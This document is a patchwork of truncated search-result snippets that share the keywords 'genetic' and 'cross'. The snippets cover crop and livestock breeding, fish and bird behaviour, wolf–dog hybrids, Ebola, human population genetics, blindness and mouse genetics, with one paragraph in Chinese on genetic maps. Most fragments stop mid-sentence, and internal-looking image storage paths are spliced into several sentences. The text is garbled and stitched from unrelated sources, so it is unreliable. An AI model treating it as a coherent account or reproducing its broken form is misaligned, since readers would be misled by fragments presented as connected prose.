He significantly contributed to progress in the biometrical, population genetic, and quantitative genetic foundations of modern ... In maize Schnell developed early-maturing flint and dent line gene pools and in 1965 released the first German double-cross ... There he was responsible for the cross-pollinated cereals maize (Zea mays) and rye(Secale cereale). He focussed upon the ... Schnell FW, Singh IS (1978) Epistasis in three-way crosses involving early flint and dent inbred lines of maize. Maydica 23:233 ...
Its research focused mainly on genetic improvement of cattle, pigs and sheep. In the 1980s, under the direction of John King ... Identify new and emerging zoonoses and understand how pathogens might cross from animals tohumans. Enhance quality of life for ... The principal objectives are to: Enhance animal health and welfare through knowledge of genetic factors affecting resistance to ...
The genetic structure and microdistribution of shoals of Phoxinus phoxinus, the European Minnow. Journal of Fish Biology 43:75- ... Intraspecific and cross-superorder responses to chemical alarm signals by brook stickleback. Ecology 74:2395-2404. Mathuru, A ...
基因組圖譜主要可以分成兩種,一種是遺傳圖譜(genetic map),另一種則是物理圖譜(physical map)。遺傳圖譜是利用基因的重組率來做分析,單位是分莫甘(centimorgan)。這種圖譜表現出來的是基因或特定DNA片段之間的相對位置,而
Genetic analysis indicates that there has been an unbroken genetic continuity[clarification needed] of the inhabitants over the ... In early 1945, in the Vistula-Oder Offensive, the Red Army crossed the Vistula and drove the German Wehrmacht back past the ...
... and genetic frequencies can be predicted by way of a polyhybrid Mendelian cross. Phenotypic frequencies are a different matter ... While schizophrenia is widely believed to be multifactorially genetic by biopsychiatrists, no characteristic genetic markers ... then there is a strong chance that the disease is genetic[citation needed] and that the patient will also be a genetic carrier ... If a genetic cause is suspected and little else is known about the illness, then it remains to be seen exactly how many genes ...
Cross-sensitizationEdit. Cross-sensitization is a phenomenon in which sensitization to a stimulus is generalized to a related ... a b Croner S (1992)."Prediction and detection of allergy development: influence of genetic and environmental factors". J. ... In animals, cross-sensitization has been established between the consumption ofmany different types of drugs of abuse - in ... Barnes KC, Grant AV, Hansel NN, Gao P, Dunston GM (2007). "African Americans with asthma: genetic insights". Proc Am Thorac Soc ...
Many genetic principles were discovered or confirmed in this species. It was used by Punnett in early studies of genetic ... Gregor Mendel is today recognized as the "Father of Modern Genetics" for his work with the cross breeding of pea plants (Pisum ... Seeds of the sweet pea contain beta-aminopropionitrile that prevents the cross-linking of collagen by inhibiting lysyl oxidase ... It is highly suitable as a genetic subject because of its ability to self-pollinate and its easily observed Mendeliantraits ...
Circumstances and Consequences of Cross-Species Transmission. Current Topics in Microbiology and Immunology. Ebolavirus and ... no Ebola virus was detected apart from some genetic traces found in six rodents (belonging to the species Mus setulosus and ...
The mallard duck can cross breed with 63 other species, posing a severe threat to indigenous waterfowl's genetic integrity.[116 ... Genetic analysis has shown that certain mallards appear to be closer to their Indo-Pacific relatives while others are related ... Owing to their highly 'malleable' genetic code, mallards can display a large amount ofvariation,[36] as seen here with this ... Mallards are causing severe "genetic pollution" to South Africa's biodiversity by breeding with endemic ducks[113] even though ...
Archaeological and genetic data suggest that the source populations of Paleolithic humans survived in sparsely wooded areas and ... a group of humans crossed Beringia and quickly expanded throughout the Americas.[9] ... According to current archaeological and genetic models, there were at least two notable expansion events subsequent to peopling ...
"Mobile Genetic Elements. 3 (4): e25845. doi:10.4161/mge.25845. PMC 3812789. PMID 24195014.. ... you have to cross the cell membrane, just like if you were headed for the extracellular space. In those cases, chloroplast- ... It further contends that only a minority of the genetic material is kept in circular chromosomes while the rest is in branched ...
They never made such extensive migrations as the blue wildebeest, but at one time, they crossed the Drakensberg Range, moving ... Corbet, S. W.; Robinson, T. J. (November-December 1991). "Genetic divergence in South African Wildebeest: comparative ...
Dhallan left his position at Holy Cross in 2000 in order to start his own company, Ravgen, with the pursuit of developing a ... Ravgen has published its genetic research in internationally recognized, peer reviewed articles including JAMA (the Journal of ... PA before becoming an attending physician in the Department of Emergency Medicine at Holy Cross Hospital in Silver Spring, MD. ...
Wild Lens species are a significant source of genetic variation for improving the relatively narrow genetic base of this crop. ... Even if crosses are successful, many undesired genes may be introduced as well in addition to the desired ones. This can be ... Crosses generally fail between members of different gene pools. However, plant growth regulators and/or embryo rescue allows ... Serious genetic improvement foryield has been made, however, the full potential of production and productivity could not yet ...
Genetic considerationsEdit. The wolf-like canids are a group of large carnivores that are genetically closely related because ... The first generation crosses (one wolf parent, one dog parent) generally are backcrossed to domestic dogs to maintain a ... Documenting Domestication:New Genetic and Archaeological Paradigms. University of California Press. pp. 279-295. ISBN ... However, recent genetic and morphological evidence suggests that the red wolf is a unique taxon. Wilson et al. (2000) report ...
This compares with 25% of Cw7-B7 that extend to A3::DQ6 [4] Of 25 potential genetic recombinants of A1::DQ2, none exceed 10% of ... One possibility is that peoples from central Asia or the Middle East migrated into Iberia as peoples from Africa crossed into ... June 2004). "Genetic polymorphisms in tumor necrosis factor (TNF)-alpha and TNF-beta in a population-based study of systemic ... February 1999). "The genetic basis for the association of the 8.1 ancestral haplotype (A1, B8, DR3) with multiple ...
... that could differentiate the latter from other genetic types of loosed sediments in sections. The presence of cross-bedded ... The geneticdiagnostics of the giant ripples in the Kuray Basin had a general character and was essentially limited to the ... The fragmentary material is diagonally cross-bedded agreed with the dip of the distal slope. Irrespective of the age of the ... Thus, it is this scientist's name that we should associate with the discovery and correct genetic interpretation of the relief ...
... and genetic load: a cross-sectional study from Northern India". Pediatric Research. 81 (1): 18-26. doi:10.1038/pr.2016.177. ... "Genetic Evaluation Results". Archived from the original on August 27, 2001.. *^ S1008:Genetic Selection and Crossbreeding to ... "Genetic diversity and population genetic structure in the South American sea lion (Otaria flavescens)" (PDF). Department of ... There are genetic assays being scheduled for lions to determine their genetic diversity. The preliminary studies show results ...
... the International Committee of the Red Cross, the International Federation of Red Cross and Red Crescent Societies, the South ... then published more details including the virus's genetic makeup and closest relatives.[18][19] The Erasmus Medical Center " ...
Bazin, Hervé (2011). Vaccination: a history from Lady Montagu to genetic engineering. Montrouge: J. Libbey Eurotext. p. 407. ... Since these tests can cross-react with other flaviviruses, such as dengue virus, these indirect methods cannot conclusively ... It is probably due to the genetic morphology of the immune system. Another possible side effect is an infection of the nervous ... "Genetic relationships and evolution of genotypes of yellow fever virus and other members of the yellow fever virus group ...
An ecological cascade effect is a series of secondary extinctions that is triggered by the primary extinction of a key species in an ecosystem. Secondary extinctions are likely to occur when the threatened species are: dependent on a few specific food sources, mutualistic (dependent on the key species in some way), or forced to coexist with an invasive species that is introduced to the ecosystem. Species introductions to a foreign ecosystem can often devastate entire communities, and even entire ecosystems. These exotic species monopolize the ecosystem's resources, and since they have no natural predators to decrease their growth, they are able to increase indefinitely. Olsen et al.[1]showed that exotic species have caused lake and estuary ecosystems to go through cascade effects due to loss of algae, crayfish, mollusks, fish, amphibians, and birds. However, the principal cause of cascade effects is the loss of top predators as the key species. As a result of this loss, a dramatic increase ...
On the identity of the plant(s) in question, en: says "Most alfalfa cultivars contain genetic material from Sickle Medick (M. ... because there is no way of cross-checking them till they turn blue); and they may contradict the existing structure to no good ...
... cross-dressers, and people who need sex reassignment" from driving.[43] ...
Genetic and Evolutionary Computation, (GECCO), pp.37-44, (2012).. *^ al-Rifaie, Mohammad Majid, John Mark Bishop, and Tim ...
Researchers cross-fostered eggs between nests of blue tits and great tits and observed the resulting behavior through audio- ... delineating the difference between cultural and genetic acquisition.[43] Strong evidence already exists for mate choice, bird ... Gaskins, Suzanne (Nov 1, 2000). "Children's Daily Activitiesin a Mayan Village: A Culturally Grounded Description". Cross- ...
Composition of Brazil, genetic studies[edit]. Genetic studies have shown the Brazilian population as a whole to have Caucasoid ... who formed expeditions that crossed the interior of Brazil and greatly increased the Portuguese colonial territory. The main ... Genetic studies conducted by the geneticist Sergio D.J. Pena of the Federal University of Minas Gerais have shown that the ... A 2015 autosomal genetic study, which also analysed data of 25 studies of 38 different Brazilian populations concluded that: ...
The three "hits" - chronological and synergistic - are as follows: genetic predisposition (which predispose higher/lower HPA ... more research is needed to determine if the results seen in cross-generational animal models can be extended to humans. ... The latter scenario may represent maladaptation due to earlyprogramming, genetic predisposition, and mismatch. This mismatch ... depending on an individual's genetic predispositions, programming effects of early-life environment, and match or mismatch with ...
Genetic defectsEdit. People with albinism often have vision loss to the extent that many are legally blind, though few of them ... The parable of the blind men and an elephant has crossed between many religious traditions and is part of Jain, Buddhist, Sufi ... Recent advances in mapping of the human genome have identified other genetic causes of low vision or blindness. One such ... Tactile paving and audible traffic signals can make it easier and safer for visually impaired pedestrians to cross streets. In ...
interstrand cross-link repair. • response to glucoside. • DNA recombinaseassembly. • meiotic cell cycle. • negative regulation ... "Genetic unmasking of an epigenetically silenced microRNA in human cancer cells". Cancer Res. 67 (4): 1424-9. doi:10.1158/0008- ... Fanconi anemia (FA) is a hereditary condition characterized by cellular hypersensitivity to DNA cross-linking agents. A ... The presence of Dmc1 stabilizes the adjacent Rad51 filaments suggesting that cross-talk between these two recombinases may ...
aDNA analysis of past populations is used by archaeology to genetically determine the sex of individuals, determine genetic ... of different recording protocols for entheseal changes in regards to expressing activity patterns using archival data and cross ...
The leaves are triangular in cross section, the hypodermis usually with a double layer of cells; resin ducts (1-)2-3(4), medial ... 1997)have used RAPD markers to show clear and substantial genetic differences between P. patula and P. tecunumanii, ... occasionally 1 internal, stele oval incross section; outer walls of endodermal cells not thickened; vascular bundles 2, ...
Because of this, significant debate exists over whether a Warlander will only obtain genetic benefit if it is an F1 hybrid. A ... Although evidence of breeders utilizing an Iberian-Friesian cross dates back 400 years, the Warlander has been a distinctly ... The Warlander Studbook Society acknowledges that the following genetic defects are known to come from the base breeds of the ... would be likely to suffer from genetic atavism. The statistically tiny number of F2 and subsequent generation Warlander horses ...
Genetic analysis of complex traits in the emerging collaborative cross. Genome Res. doi: 10.1101/gr.111310.110 ... Genetic analysis in the Collaborative Cross breeding population. Genome Res. doi: 10.1101/gr.113886.110 ... 2. Breeding effects in the Collaborative Cross. The development of the Collaborative Cross presents a unique opportunity to ... By integrating genetic variation data from the genomes of the founding strains of the CC, Durrant et al. further refined the ...
Genetic" by people in Harvard Catalyst Profiles by year, and whether "Crosses, Genetic" was a major or minor topic of these ... "Crosses, Genetic" is a descriptor in the National Library of Medicines controlled vocabulary thesaurus, MeSH (Medical Subject ... Plasmodium vivax chloroquine resistance links to pvcrt transcription in a genetic cross. Nat Commun. 2019 09 20; 10(1):4300. ... Below are the most recent publications written about "Crosses, Genetic" by people in Profiles. ...
